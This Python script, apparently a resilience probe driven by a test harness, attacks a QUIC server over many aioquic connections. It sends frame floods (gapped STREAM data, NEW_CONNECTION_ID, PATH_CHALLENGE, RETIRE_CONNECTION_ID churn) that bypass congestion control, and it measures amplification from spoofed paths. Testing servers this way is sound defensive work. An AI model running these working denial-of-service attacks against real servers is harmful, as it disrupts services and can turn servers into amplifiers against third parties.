"""What no client of QUIC should send: `probe.py HOST PORT ATTACK CONNECTIONS`.

Says `ready` once the connections are there, attacks over each when a line comes in, and says `done` with what came of it:
how many connections live, and how many times the bytes that it sent the largest answer to one address was.
"""

import asyncio
import json
import socket
import ssl
import sys

from aioquic.asyncio.client import connect
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnectionState
from aioquic.quic.packet import QuicPacketType
from aioquic.quic.packet_builder import QuicPacketBuilder
from aioquic.tls import Epoch

STREAM, NEW_CONNECTION_ID, RETIRE_CONNECTION_ID, PATH_CHALLENGE, PING = 0x0E, 0x18, 0x19, 0x1A, 0x01
# Bytes of frames in a datagram.
ROOM = 1150


def varint(n):
    for bits, length in ((6, 1), (14, 2), (30, 4), (62, 8)):
        if n < 1 << bits:
            return (n | {1: 0, 2: 1, 4: 2, 8: 3}[length] << (8 * length - 2)).to_bytes(length, "big")
    raise ValueError(n)


def packed(frames):
    """Frames, as many in one payload as there is room for."""
    payload = b""
    for frame in frames:
        if len(payload) + len(frame) > ROOM:
            yield payload
            payload = b""
        payload += frame
    yield payload


def datagrams(quic, payload):
    """A packet with these frames, whatever congestion control says of it."""
    builder = QuicPacketBuilder(
        host_cid=quic.host_cid,
        is_client=True,
        max_datagram_size=1200,
        packet_number=quic._packet_number,
        peer_cid=quic._peer_cid.cid,
        version=quic._version,
    )
    builder.start_packet(QuicPacketType.ONE_RTT, quic._cryptos[Epoch.ONE_RTT])
    builder.start_frame(payload[0], capacity=len(payload)).push_bytes(payload[1:])
    built, _ = builder.flush()
    quic._packet_number = builder.packet_number
    return built


def gaps(size):
    """Every other piece of half a MiB of a request's stream."""

    def frame(offset):
        head = bytes([STREAM]) + varint(0) + varint(offset) + varint(size)
        return head + bytes(size)

    return [frame(offset) for offset in range(size, 512 << 10, 2 * size)]


def new_ids():
    def frame(n):
        return bytes([NEW_CONNECTION_ID]) + varint(n) + varint(n) + b"\x08" + n.to_bytes(8, "big") + bytes(16)

    return [frame(n) for n in range(2, 50_000)]


def challenges():
    return [bytes([PATH_CHALLENGE]) + n.to_bytes(8, "big") for n in range(50_000)]


async def flood(client, payloads):
    for turn, payload in enumerate(payloads):
        if client._quic._state != QuicConnectionState.CONNECTED:
            return
        for datagram in datagrams(client._quic, payload):
            client._transport.sendto(datagram, client._quic.get_peer_address())
        if turn % 16 == 0:
            # Whoever says nothing for long is not listened to either.
            await asyncio.sleep(0.001)


async def retire(client):
    """Retires the ids that the server gives as they come, so that it must give others."""
    quic, idle = client._quic, 0
    for _ in range(500):
        given, quic._peer_cid_available[:] = quic._peer_cid_available[:], []
        idle = 0 if given else idle + 1
        if idle > 100:
            break
        if idle:
            await asyncio.sleep(0.001)
        frames = [bytes([RETIRE_CONNECTION_ID]) + varint(each.sequence_number) for each in given]
        await flood(client, filter(None, packed(frames)))
    return 0.0


async def from_everywhere(client):
    """A datagram from each of many addresses; the largest answer to one, in bytes for each byte sent from there."""
    loop = asyncio.get_running_loop()
    worst = 0.0
    for _ in range(20):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:
            elsewhere.setblocking(False)
            elsewhere.connect(client.at)
            sent = got = 0
            for datagram in datagrams(client._quic, bytes([PING]) + bytes(40)):
                sent += elsewhere.send(datagram)
            try:
                async with asyncio.timeout(0.05):
                    while True:
                        got += len(await loop.sock_recv(elsewhere, 2048))
            except TimeoutError:
                pass
            worst = max(worst, got / sent)
    return worst


async def attack(kind, client):
    frames = {
        "gaps-1": lambda: gaps(1),
        "gaps-512": lambda: gaps(512),
        "new-ids": new_ids,
        "challenges": challenges,
    }
    if kind == "paths":
        return await from_everywhere(client)
    if kind == "retired-ids":
        return await retire(client)
    await flood(client, packed(frames[kind]()))
    return 0.0


async def main(host, port, kind, count):
    configuration = QuicConfiguration(alpn_protocols=["h3"], is_client=True, server_name="localhost")
    configuration.verify_mode = ssl.CERT_NONE
    contexts = [connect(host, port, configuration=configuration) for _ in range(count)]
    clients = [await context.__aenter__() for context in contexts]
    for client in clients:
        client.at = (host, port)  # The library's own socket is of IPv6.
        await client.ping()
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.readline)
    ratios = [await attack(kind, client) for client in clients]
    # Whatever is said to it by then is known.
    await asyncio.sleep(0.5)
    alive = sum(client._quic._state == QuicConnectionState.CONNECTED for client in clients)
    closes = [client._quic._close_event for client in clients if client._quic._close_event]
    errors = [[close.error_code, close.reason_phrase] for close in closes]
    print("done", json.dumps({"alive": alive, "errors": errors, "worst": max(ratios)}), flush=True)
    await asyncio.to_thread(sys.stdin.readline)


asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])))
